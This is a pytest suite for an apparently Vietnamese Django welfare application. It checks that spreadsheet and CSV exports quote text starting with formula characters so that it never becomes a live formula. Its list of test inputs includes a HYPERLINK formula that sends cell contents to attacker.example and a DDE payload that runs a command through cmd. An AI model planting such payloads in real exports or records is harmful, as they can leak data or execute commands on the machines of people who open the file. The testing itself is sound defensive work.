"""Spreadsheet formula injection (issue 12, finding 2): names, reasons,
addresses and notes that start with = + - @ (or a tab, a carriage return or
blanks before one of those) never reach an export as a live formula.

Each export is produced the way a user gets it (the page or the API), then
read back: .xlsx with openpyxl (no cell is a formula, no text starts with a
formula character: it carries a leading single quote), .csv with the csv
module (the same, except for numbers such as -5). The hostile text is in the
file, quoted, and numbers are still number cells."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterable
from types import SimpleNamespace
from typing import Any

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse
from rest_framework.test import APIClient

from cases.exports.tabular import Column, safe_text, xlsx_bytes
from cases.gifts.models import (
    Campaign,
    GiftList,
    GiftListState,
    GiftPackage,
    GiftRecipient,
    GiftRecipientState,
    SignedBy,
)
from cases.models import AdministrativeUnit, Person
from tests.factories import PersonFactory
from workflows import audit
from workflows.text import clean_text

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")'
HOSTILE = [
    LINK,
    "+SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+2",
    "\r=1+2",
    "  =1+2",
]
TRIGGERS = tuple("=+-@\t\r")
# What the database holds: names and reasons are stored trimmed (issue 13), so
# "\t=1+2" is kept as "=1+2", which is just as live in a spreadsheet.
STORED = list(dict.fromkeys(clean_text(text) for text in HOSTILE))


def _live(text: str) -> bool:
    """Would a spreadsheet program read this text as a formula?"""
    return text.lstrip(" \u00a0\n").startswith(TRIGGERS)


def _is_number(text: str) -> bool:
    try:
        float(text.replace(",", ""))
    except ValueError:
        return False
    return True


def xlsx_cells(content: bytes) -> list[Any]:
    """Every cell of every sheet, after checking that none is a formula and
    no text would read as one."""
    wb = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for ws in wb for row in ws.iter_rows() for cell in row]
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    assert not formulas, f"formula cells: {formulas}"
    live = [(c.coordinate, c.value) for c in cells if isinstance(c.value, str) and _live(c.value)]
    assert not live, f"text read as a formula: {live}"
    return cells


def csv_rows(content: bytes | str) -> list[list[str]]:
    text = content.decode("utf-8-sig") if isinstance(content, bytes) else content
    rows = list(csv.reader(io.StringIO(text, newline="")))
    live = [v for row in rows for v in row if _live(v) and not _is_number(v)]
    assert not live, f"text read as a formula: {live}"
    return rows


def quoted(values: Iterable[str]) -> set[str]:
    return {"'" + v for v in values}


def texts(cells: Iterable[Any]) -> set[str]:
    return {c.value for c in cells if isinstance(c.value, str)}


def body(response: Any) -> bytes:
    assert response.status_code == 200, response.content[:500]
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return bytes(response.content)


def login(user: Any) -> Client:
    client = Client(HTTP_ACCEPT_LANGUAGE="vi")
    client.force_login(user)
    return client


def api_as(user: Any) -> APIClient:
    client = APIClient(HTTP_ACCEPT_LANGUAGE="vi")
    client.force_authenticate(user)
    return client


# --- the writer itself ---------------------------------------------------------------------


def test_text_starting_with_a_formula_character_gets_a_quote_and_other_text_does_not():
    for text in HOSTILE:
        assert safe_text(text) == "'" + text
    for text in ["Nguyễn Văn A", "Thôn 3 - xã Phù Lỗ", "", "a=b", "0912345678", "'=x"]:
        assert safe_text(text) == text


def test_the_xlsx_writer_keeps_numbers_and_dates_and_quotes_hostile_text():
    when = dt.datetime(2024, 2, 5, 9, 30)
    content = xlsx_bytes(
        "Thử",
        [Column("Tên"), Column("Số tiền", money=True), Column("Ngày"), Column("Lúc")],
        [[text, -500_000, dt.date(2024, 2, 5), when] for text in HOSTILE]
        + [["#N/A", 1, None, None]],
    )
    cells = xlsx_cells(content)
    assert quoted(HOSTILE) <= texts(cells)
    ws = openpyxl.load_workbook(io.BytesIO(content)).active
    assert ws is not None
    assert ws["B2"].value == -500_000 and ws["B2"].data_type == "n"
    assert ws["B2"].number_format == "#,##0"
    assert ws["C2"].is_date and ws["C2"].value == dt.datetime(2024, 2, 5)
    assert ws["D2"].value == when
    assert ws["A9"].value == "#N/A" and ws["A9"].data_type == "s"  # text, not an error cell


# --- audit trail ---------------------------------------------------------------------------


@pytest.fixture
def hostile_events(users: SimpleNamespace, communes: SimpleNamespace) -> list[Any]:
    return [
        audit.record(
            actor=users.officer,
            actor_role="commune_officer",
            commune_id=communes.a.pk,
            event="transition",
            transition="return",
            reason=text,
            data={"note": text},
        )
        for text in HOSTILE
    ]


def test_audit_export_xlsx_on_the_page_and_the_api_has_no_live_formula(hostile_events, users):
    page = body(login(users.auditor).get(reverse("audit_export"), {"fmt": "xlsx"}))
    api = body(api_as(users.auditor).get("/api/v1/audit/events/export/", {"format": "xlsx"}))
    for content in (page, api):
        cells = xlsx_cells(content)
        assert quoted(STORED) <= texts(cells)
        ws = openpyxl.load_workbook(io.BytesIO(content)).active
        assert ws is not None
        ids = {ws.cell(row=r, column=1).value for r in range(2, ws.max_row + 1)}
        assert {e.pk for e in hostile_events} <= ids  # event ids are numbers
        assert ws.cell(row=2, column=2).is_date


def test_audit_export_csv_on_the_page_and_the_api_has_no_live_formula(hostile_events, users):
    page = body(login(users.auditor).get(reverse("audit_export"), {"fmt": "csv"}))
    api = body(api_as(users.auditor).get("/api/v1/audit/events/export/", {"format": "csv"}))
    for content in (page, api):
        rows = csv_rows(content)
        assert quoted(STORED) <= {v for row in rows for v in row}
        assert {str(e.pk) for e in hostile_events} <= {row[0] for row in rows}


# --- gift campaign documents -----------------------------------------------------------


@pytest.fixture
def hostile_list(users: SimpleNamespace, communes: SimpleNamespace) -> GiftList:
    """An approved list of commune a whose people, package and notes are hostile."""
    campaign = Campaign.objects.create(
        code="tet-doc", name=LINK, year=2024, occasion_date=dt.date(2024, 2, 10)
    )
    package = GiftPackage.objects.create(
        campaign=campaign, code="dn", name="@SUM(1+1)", source="private", amount=500_000,
        donor="=1+2",
    )  # fmt: skip
    gift_list = GiftList.objects.create(
        campaign=campaign,
        commune=communes.a,
        created_by=users.officer,
        state=GiftListState.APPROVED,
    )
    rows = []
    for i, text in enumerate(HOSTILE):
        person: Any = PersonFactory(commune=communes.a, full_name=text, address=text)
        extra: dict[str, Any] = {"state": GiftRecipientState.APPROVED}
        if i % 3 == 1:
            extra = {"state": GiftRecipientState.RETURNED, "return_reason": text, "note": text}
        elif i % 3 == 2:
            extra = {
                "state": GiftRecipientState.DELIVERED,
                "delivered_on": dt.date(2024, 2, 5),
                "signed_by": SignedBy.PROXY,
                "proxy_name": text,
                "proxy_relationship": text,
            }
        rows.append(
            GiftRecipient(
                gift_list=gift_list,
                package=package,
                commune=communes.a,
                person=person,
                amount=package.amount,
                **extra,
            )  # fmt: skip
        )
    GiftRecipient.objects.bulk_create(rows)
    return gift_list


def test_signature_list_xlsx_has_no_live_formula_and_amounts_stay_numbers(hostile_list, users):
    url = reverse("gift_list_signature_xlsx", args=[hostile_list.pk])
    cells = xlsx_cells(body(login(users.officer).get(url)))
    assert quoted(STORED) <= texts(cells)  # names and addresses, quoted
    amounts = [c for c in cells if c.value == 500_000]
    assert len(amounts) == len(HOSTILE) and all(c.data_type == "n" for c in amounts)


def test_reconciliation_xlsx_has_no_live_formula(hostile_list, users, communes):
    AdministrativeUnit.objects.filter(pk=communes.a.pk).update(name="-1+1")
    url = reverse("campaign_reconciliation_xlsx", args=[hostile_list.campaign_id])
    cells = xlsx_cells(body(login(users.officer).get(url)))
    assert "'-1+1" in texts(cells)
    assert any(c.value == 500_000 * len(HOSTILE) and c.data_type == "n" for c in cells)


def test_gift_import_template_has_no_live_formula(users, communes):
    from cases.gifts.services import gift_list_open

    campaign = Campaign.objects.create(
        code="tet-tpl", name=LINK, year=2024, occasion_date=dt.date(2024, 2, 10)
    )
    GiftPackage.objects.create(
        campaign=campaign, code="+x", name="@SUM(1+1)", source="private", amount=300_000,
        donor="=1+2",
    )  # fmt: skip
    gift_list = gift_list_open(actor=users.officer, campaign=campaign, commune=communes.a)
    url = reverse("gift_list_import_template", args=[gift_list.pk])
    cells = xlsx_cells(body(login(users.officer).get(url)))
    assert {"'@SUM(1+1)", "'+x"} <= texts(cells)
    assert any(c.value == 300_000 and c.data_type == "n" for c in cells)


# --- drug rehab ----------------------------------------------------------------------------


@pytest.fixture
def hostile_rehab(communes: SimpleNamespace, rehab_users: SimpleNamespace) -> list[Any]:
    from tests.rehab.helpers import ON_2022, make_referral, travel

    cases = []
    with travel(ON_2022) as clock:
        for text in HOSTILE[:3]:
            case = make_referral(clock, rehab_users, communes.a, documents=False)
            Person.objects.filter(pk=case.applicant_id).update(full_name=text)
            cases.append(case)
    return cases


def test_rehab_exports_on_the_page_and_the_api_have_no_live_formula(hostile_rehab, rehab_users):
    client = login(rehab_users.district_rehab)
    data = {"purpose": "reporting"}
    page_csv = body(client.post(reverse("rehab_export"), {**data, "fmt": "csv"}))
    page_xlsx = body(client.post(reverse("rehab_export"), {**data, "fmt": "xlsx"}))
    api_csv = body(
        api_as(rehab_users.district_rehab).get("/api/v1/rehab/export/", {**data, "format": "csv"})
    )
    for content in (page_csv, api_csv):
        rows = csv_rows(content)
        assert quoted(HOSTILE[:3]) <= {v for row in rows for v in row}
    cells = xlsx_cells(page_xlsx)
    assert quoted(HOSTILE[:3]) <= texts(cells)
    assert any(c.is_date for c in cells)  # dates of birth are dates


# --- dashboard and six-month report --------------------------------------------------------


def test_dashboard_xlsx_has_no_live_formula(users, communes, make_case):
    make_case()
    AdministrativeUnit.objects.filter(pk=communes.a.pk).update(name=LINK)
    cells = xlsx_cells(body(login(users.officer).get(reverse("dashboard_xlsx"))))
    assert "'" + LINK in texts(cells)
    assert any(isinstance(c.value, int) and c.data_type == "n" for c in cells)


def test_six_month_report_annex_has_no_live_formula(users, communes):
    from tests.report.conftest import END, START, _gifts

    campaign = Campaign.objects.create(
        code="tet-bc", name=LINK, year=2024, occasion_date=dt.date(2024, 2, 10)
    )
    package = GiftPackage.objects.create(
        campaign=campaign, code="xhh", name="xhh", source="private", amount=250_000,
        donor="@SUM(1+1)",
    )  # fmt: skip
    _gifts(campaign, communes.a, users.officer, package, 2)
    AdministrativeUnit.objects.filter(pk=communes.b.pk).update(name="+1+1")
    response = login(users.auditor).get(
        reverse("report_six_month_xlsx"),
        {"start": START.strftime("%d/%m/%Y"), "end": END.strftime("%d/%m/%Y")},
    )
    cells = xlsx_cells(body(response))
    assert {"'" + LINK, "'+1+1"} <= texts(cells)
    assert any(c.value == 500_000 and c.data_type == "n" for c in cells)
